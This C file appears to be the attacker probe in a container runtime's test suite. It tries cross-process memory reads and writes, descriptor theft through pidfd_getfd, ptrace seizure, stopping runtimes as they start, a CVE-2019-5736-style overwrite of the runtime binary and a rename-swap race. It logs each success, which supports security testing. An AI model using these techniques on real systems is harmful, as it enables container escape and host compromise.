// What an attacker runs: in a container, or on a volume that one shares with the container that is being made. One static
// program, so that it runs in any image. It says on stdout what it got; what it could not get it is silent about.

#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

static char path[128];

static const char *of(int pid, const char *name) {
  snprintf(path, sizeof path, "/proc/%d/%s", pid, name);
  return path;
}

/* Calls with every process but ourselves and number 1. */
static void each(void (*act)(int pid)) {
  DIR *proc = opendir("/proc");
  for (struct dirent *entry; proc && (entry = readdir(proc));) {
    int pid = atoi(entry->d_name);
    if (pid > 1 && pid != getpid()) act(pid);
  }
  if (proc) closedir(proc);
}

/* The agent is the only program that is mapped at its address (src/linux/agent/wire.ts, TEXT). */
static int is_agent(int pid) {
  char magic[4] = "";
  struct iovec here = {magic, 4}, there = {(void *)0x10000000, 4};
  return process_vm_readv(pid, &here, 1, &there, 1, 0) == 4 && !memcmp(magic, "\177ELF", 4);
}

static void spy(int pid) {
  if (is_agent(pid)) printf("read the memory of agent %d\n", pid);
}

/* All that one process may get of another, of one that waits for us to try. */
static void rob(int pid) {
  char text[512];
  spy(pid);
  struct iovec here = {text, 4}, there = {(void *)0x10010000, 4};
  memset(text, 0, sizeof text);
  if (process_vm_writev(pid, &here, 1, &there, 1, 0) > 0) printf("wrote the memory of %d\n", pid);
  int fd = open(of(pid, "mem"), O_RDWR);
  if (fd >= 0) printf("opened mem of %d\n", pid);
  if (readlink(of(pid, "root"), text, sizeof text) > 0) printf("saw root of %d\n", pid);
  if (readlink(of(pid, "exe"), text, sizeof text) > 0) printf("saw exe of %d\n", pid);
  int pidfd = syscall(SYS_pidfd_open, pid, 0);
  for (int n = 0; n < 80; n++)
    if (syscall(SYS_pidfd_getfd, pidfd, n, 0) >= 0) printf("took descriptor %d of %d\n", n, pid);
  if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
    printf("traced %d\n", pid);
    ptrace(PTRACE_DETACH, pid, 0, 0);
  }
  printf("tried %d\n", pid);
}

/* ps shows what it is until its program runs: a runtime. */
static int is_on_its_way(int pid) {
  char name[16] = "";
  int fd = open(of(pid, "cmdline"), O_RDONLY);
  if (fd < 0 || read(fd, name, sizeof name - 1) < 0) name[0] = 0;
  if (fd >= 0) close(fd);
  return !strncmp(name, "tsrun:", 6) || !strncmp(name, "runc", 4) || !strncmp(name, "crun", 4);
}

/* A program that was stopped is nobody's business: only what is no program yet. */
static void stop(int pid) {
  if (!is_on_its_way(pid)) kill(pid, SIGCONT);
  else if (kill(pid, SIGSTOP) == 0) printf("stopped %d\n", pid);
}

/* Traces whatever it can: the end of that is for us to see first, and we do not look. */
static void haunt(int pid) {
  if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) printf("haunted %d\n", pid);
}

/* As stop, in a debugger's way. */
static void hold(int pid) {
  if (is_on_its_way(pid) && ptrace(PTRACE_SEIZE, pid, 0, 0) == 0 && ptrace(PTRACE_INTERRUPT, pid, 0, 0) == 0)
    printf("held %d\n", pid);
}

/* Its sockets, for good: who waits for their end waits for us. */
static void keep(int pid) {
  if (!is_on_its_way(pid)) return;
  int pidfd = syscall(SYS_pidfd_open, pid, 0);
  for (int n = 3; n < 80; n++) {
    int fd = syscall(SYS_pidfd_getfd, pidfd, n, 0);
    snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
    char link[16] = "";
    if (fd >= 0 && readlink(path, link, 7) > 0 && !strcmp(link, "socket:")) printf("kept %d of %d\n", n, pid);
    else if (fd >= 0) close(fd);
  }
  close(pidfd);
}

/* What it may do, as whoever traces it may, and what it has open. */
static void weigh(int pid) {
  if (!is_on_its_way(pid)) return;
  char text[4096] = "", links[1024] = "", link[128];
  FILE *status = fopen(of(pid, "status"), "r");
  if (!status) return;
  while (fgets(link, sizeof link, status))
    if (!strncmp(link, "Cap", 3) || !strncmp(link, "Uid:", 4) || !strncmp(link, "Groups:", 7) || !strncmp(link, "Seccomp:", 8))
      strcat(text, strtok(link, "\n")), strcat(text, ",");
  fclose(status);
  for (int n = 3; n < 80; n++) {
    snprintf(path, sizeof path, "/proc/%d/fd/%d", pid, n);
    ssize_t length = readlink(path, link, sizeof link - 1);
    if (length > 0) link[length] = 0, strcat(strcat(links, strtok(link, "[")), ",");
  }
  /* Only now: it may have become its program meanwhile. */
  if (is_on_its_way(pid)) printf("weighed %s has %s\n", text, links);
}

/* CVE-2019-5736: hold the runtime's executable while it runs, write to it when it does not. */
static void overwrite(int pid) {
  int held = open(of(pid, "exe"), O_RDONLY | O_CLOEXEC);
  if (held < 0) return;
  char target[512] = "";
  snprintf(path, sizeof path, "/proc/self/fd/%d", held);
  if (readlink(path, target, sizeof target - 1) > 0 && strncmp(target, "/bin/", 5) && strcmp(target, "/attacker")) {
    printf("held %s\n", target);
    for (int tries = 0; tries < 1000; tries++) {
      int fd = open(path, O_WRONLY | O_CLOEXEC);
      if (fd >= 0 && write(fd, "#!/bin/sh\n", 10) == 10) printf("wrote to %s\n", target);
      if (fd >= 0) { close(fd); break; }
      if (errno != ETXTBSY) break;
    }
  }
  close(held);
}

static void swap(char **names) {
  for (;;)
    for (char **pair = names; pair[0] && pair[1]; pair += 2)
      syscall(SYS_renameat2, AT_FDCWD, pair[0], AT_FDCWD, pair[1], 2 /* RENAME_EXCHANGE */);
}

int main(int count, char **words) {
  setvbuf(stdout, NULL, _IONBF, 0);
  const char *what = count > 1 ? words[1] : "";
  if (!strcmp(what, "swap")) swap(words + 2);
  if (!strcmp(what, "rob")) return each(rob), 0;
  printf("ready\n");
  for (;;) {
    if (!strcmp(what, "spy")) each(spy);
    else if (!strcmp(what, "stop")) each(stop);
    else if (!strcmp(what, "hold")) each(hold);
    else if (!strcmp(what, "haunt")) each(haunt);
    else if (!strcmp(what, "keep")) each(keep);
    else if (!strcmp(what, "overwrite")) each(overwrite);
    else if (!strcmp(what, "weigh")) each(weigh);
    else return 2;
  }
}
